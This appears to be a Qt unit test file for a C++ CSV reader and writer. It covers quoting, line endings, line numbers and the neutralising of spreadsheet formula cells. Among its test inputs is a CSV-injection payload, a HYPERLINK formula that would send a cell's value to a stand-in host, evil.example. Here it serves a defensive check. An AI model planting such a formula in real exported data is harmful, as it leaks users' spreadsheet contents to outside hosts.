// Csv: RFC 4180 reading (quotes, doubled quotes, line breaks in fields, CRLF, CR alone, line
// numbers, unterminated quotes) and writing that reads back unchanged; cells a spreadsheet would
// run as formulas are neutralised on the way out and restored on the way in.

#include "core/base/Csv.h"

#include <QRegularExpression>
#include <QTest>

using sb::Csv;

Q_DECLARE_METATYPE(QList<QStringList>)

class TestCsv : public QObject
{
    Q_OBJECT

private slots:
    void parse_data();
    void parse();
    void lineNumbers();
    void lineNumbersWithCrOnly();
    void unterminatedQuote();
    void record_data();
    void record();
    void roundTrip();
    void formulaCells_data();
    void formulaCells();
};

void TestCsv::parse_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QList<QStringList>>("expected");
    auto s = [](const char* t) { return QString::fromUtf8(t); };
    QTest::newRow("simple") << s("a,b,c\n1,2,3\n")
                            << QList<QStringList>{{s("a"), s("b"), s("c")},
                                                  {s("1"), s("2"), s("3")}};
    QTest::newRow("crlf") << s("a,b\r\n1,2\r\n")
                          << QList<QStringList>{{s("a"), s("b")}, {s("1"), s("2")}};
    QTest::newRow("no final newline")
        << s("a,b\n1,2") << QList<QStringList>{{s("a"), s("b")}, {s("1"), s("2")}};
    QTest::newRow("quoted comma") << s("\"Berg, Anna\",x\n")
                                  << QList<QStringList>{{s("Berg, Anna"), s("x")}};
    QTest::newRow("doubled quote")
        << s("\"say \"\"hi\"\"\",x\n") << QList<QStringList>{{s("say \"hi\""), s("x")}};
    QTest::newRow("newline in quotes")
        << s("\"two\nlines\",x\n") << QList<QStringList>{{s("two\nlines"), s("x")}};
    QTest::newRow("crlf in quotes kept")
        << s("\"two\r\nlines\",x\r\n") << QList<QStringList>{{s("two\r\nlines"), s("x")}};
    QTest::newRow("empty fields") << s(",,\n") << QList<QStringList>{{s(""), s(""), s("")}};
    QTest::newRow("empty quoted") << s("\"\",a\n") << QList<QStringList>{{s(""), s("a")}};
    QTest::newRow("blank lines skipped")
        << s("a\n\n\nb\n") << QList<QStringList>{{s("a")}, {s("b")}};
    QTest::newRow("non-ascii") << s("Ødegård,Łukasz,Zoë\n")
                               << QList<QStringList>{{s("Ødegård"), s("Łukasz"), s("Zoë")}};
    QTest::newRow("spaces kept") << s(" a , b \n") << QList<QStringList>{{s(" a "), s(" b ")}};
    QTest::newRow("empty document") << s("") << QList<QStringList>{};
    // Old Mac programs (Excel's "CSV (Macintosh)") end lines with a CR alone.
    QTest::newRow("cr only") << s("a,b\r1,2\r3,4\r")
                             << QList<QStringList>{
                                    {s("a"), s("b")}, {s("1"), s("2")}, {s("3"), s("4")}};
    QTest::newRow("cr only, no final one")
        << s("a,b\r1,2") << QList<QStringList>{{s("a"), s("b")}, {s("1"), s("2")}};
    QTest::newRow("cr in quotes kept")
        << s("\"two\rlines\",x\r") << QList<QStringList>{{s("two\rlines"), s("x")}};
    QTest::newRow("mixed endings")
        << s("a\r\nb\rc\nd") << QList<QStringList>{{s("a")}, {s("b")}, {s("c")}, {s("d")}};
    QTest::newRow("blank cr lines skipped")
        << s("a\r\r\rb\r") << QList<QStringList>{{s("a")}, {s("b")}};
}

void TestCsv::parse()
{
    QFETCH(QString, text);
    QFETCH(QList<QStringList>, expected);
    int unterminated = -1;
    const QList<Csv::Row> rows = Csv::parse(text, &unterminated);
    QCOMPARE(unterminated, 0);
    QList<QStringList> fields;
    for (const Csv::Row& r : rows)
        fields << r.fields;
    QCOMPARE(fields, expected);
}

void TestCsv::lineNumbers()
{
    const QString text = QStringLiteral("h1,h2\n\"multi\nline\nfield\",x\n\nlast,y\n");
    const QList<Csv::Row> rows = Csv::parse(text);
    QCOMPARE(rows.size(), 3);
    QCOMPARE(rows[0].line, 1);
    QCOMPARE(rows[1].line, 2); // a record starts where its first line is
    QCOMPARE(rows[2].line, 6); // after the three-line record and a blank line
}

void TestCsv::lineNumbersWithCrOnly()
{
    // The lines named in messages are the lines an editor shows, whatever ends them.
    const QString text = QStringLiteral("h1,h2\r\"multi\rline\",x\r\rlast,y\r\nz,w\n");
    const QList<Csv::Row> rows = Csv::parse(text);
    QCOMPARE(rows.size(), 4);
    QCOMPARE(rows[1].line, 2);
    QCOMPARE(rows[2].line, 5);
    QCOMPARE(rows[3].line, 6);
}

void TestCsv::unterminatedQuote()
{
    int unterminated = 0;
    const QList<Csv::Row> rows =
        Csv::parse(QStringLiteral("a,b\n1,2\n\"open,3\n4,5\n"), &unterminated);
    QCOMPARE(unterminated, 3);
    QCOMPARE(rows.size(), 3);
    QCOMPARE(rows[2].line, 3);
    QCOMPARE(rows[2].fields, QStringList{QStringLiteral("open,3\n4,5\n")});
}

void TestCsv::record_data()
{
    QTest::addColumn<QStringList>("fields");
    QTest::addColumn<QString>("line");
    QTest::newRow("plain") << QStringList{QStringLiteral("a"), QStringLiteral("b")}
                           << QStringLiteral("a,b\r\n");
    QTest::newRow("comma") << QStringList{QStringLiteral("Berg, Anna")}
                           << QStringLiteral("\"Berg, Anna\"\r\n");
    QTest::newRow("quote") << QStringList{QStringLiteral("say \"hi\"")}
                           << QStringLiteral("\"say \"\"hi\"\"\"\r\n");
    QTest::newRow("newline") << QStringList{QStringLiteral("a\nb")}
                             << QStringLiteral("\"a\nb\"\r\n");
    QTest::newRow("carriage return")
        << QStringList{QStringLiteral("a\rb")} << QStringLiteral("\"a\rb\"\r\n");
    QTest::newRow("outer space") << QStringList{QStringLiteral(" a")}
                                 << QStringLiteral("\" a\"\r\n");
    QTest::newRow("empty") << QStringList{QString(), QString()} << QStringLiteral(",\r\n");
    QTest::newRow("non-ascii") << QStringList{QStringLiteral("Ødegård")}
                               << QStringLiteral("Ødegård\r\n");
    QTest::newRow("formula") << QStringList{QStringLiteral("=HYPERLINK(\"http://x\",\"y\")")}
                             << QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\r\n");
    QTest::newRow("plus, at, minus")
        << QStringList{QStringLiteral("+47"), QStringLiteral("@sum"), QStringLiteral("-x")}
        << QStringLiteral("'+47,'@sum,'-x\r\n");
    QTest::newRow("negative number stays a number")
        << QStringList{QStringLiteral("-12.50"), QStringLiteral("-3"), QStringLiteral("-1+2")}
        << QStringLiteral("-12.50,-3,'-1+2\r\n");
    QTest::newRow("tab start") << QStringList{QStringLiteral("\t=1")}
                               << QStringLiteral("'\t=1\r\n");
    QTest::newRow("apostrophes before a formula")
        << QStringList{QStringLiteral("'=1"), QStringLiteral("'plain"), QStringLiteral("a=b")}
        << QStringLiteral("''=1,'plain,a=b\r\n");
}

void TestCsv::record()
{
    QFETCH(QStringList, fields);
    QFETCH(QString, line);
    QCOMPARE(Csv::record(fields), line);
}

void TestCsv::roundTrip()
{
    const QList<QStringList> records = {
        {QStringLiteral("account"), QStringLiteral("name")},
        {QStringLiteral("x1"), QStringLiteral("Berg, \"Anna\"\r\nsecond line")},
        {QStringLiteral("x2"), QStringLiteral(" padded ")},
        {QStringLiteral("x3"), QStringLiteral("Żaneta Wójcik")},
        {QStringLiteral("x4"), QString()},
    };
    QString text;
    for (const QStringList& r : records)
        text += Csv::record(r);
    int unterminated = -1;
    const QList<Csv::Row> rows = Csv::parse(text, &unterminated);
    QCOMPARE(unterminated, 0);
    QCOMPARE(rows.size(), records.size());
    for (qsizetype i = 0; i < rows.size(); ++i)
        QCOMPARE(rows[i].fields, records[i]);
}

void TestCsv::formulaCells_data()
{
    QTest::addColumn<QString>("field");
    for (const char* f : {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                          "+47",
                          "+4791234567",
                          "@sum",
                          "-x",
                          "-12.50",
                          "-1+2",
                          "=",
                          "-",
                          "'",
                          "''",
                          "'=1",
                          "''=1",
                          "'-12.50",
                          "'x",
                          "x'",
                          "\t=cmd",
                          "\r=cmd",
                          "'\t",
                          " =1",
                          "=1 ",
                          "plain",
                          ""})
        QTest::newRow(f) << QString::fromUtf8(f);
}

void TestCsv::formulaCells()
{
    QFETCH(QString, field);
    const QString written = Csv::neutralise(field);
    QCOMPARE(Csv::restore(written), field);
    // A spreadsheet sees text, never a formula: nothing written starts with a formula
    // character unless it is a plain negative number.
    if (!written.isEmpty() && QStringLiteral("=+-@\t\r").contains(written.front()))
        QVERIFY2(
            QRegularExpression(QStringLiteral("^-[0-9]+(\\.[0-9]+)?$")).match(written).hasMatch(),
            qPrintable(written));
    // And through a whole document, among other fields.
    const QString text =
        Csv::record({QStringLiteral("a"), field, QStringLiteral("b")}) + Csv::record({field});
    const QList<Csv::Row> rows = Csv::parse(text);
    QCOMPARE(rows.size(), field.isEmpty() ? 1 : 2);
    QCOMPARE(rows[0].fields, (QStringList{QStringLiteral("a"), field, QStringLiteral("b")}));
    if (!field.isEmpty())
        QCOMPARE(rows[1].fields, QStringList{field});
}

QTEST_GUILESS_MAIN(TestCsv)
#include "tst_csv.moc"
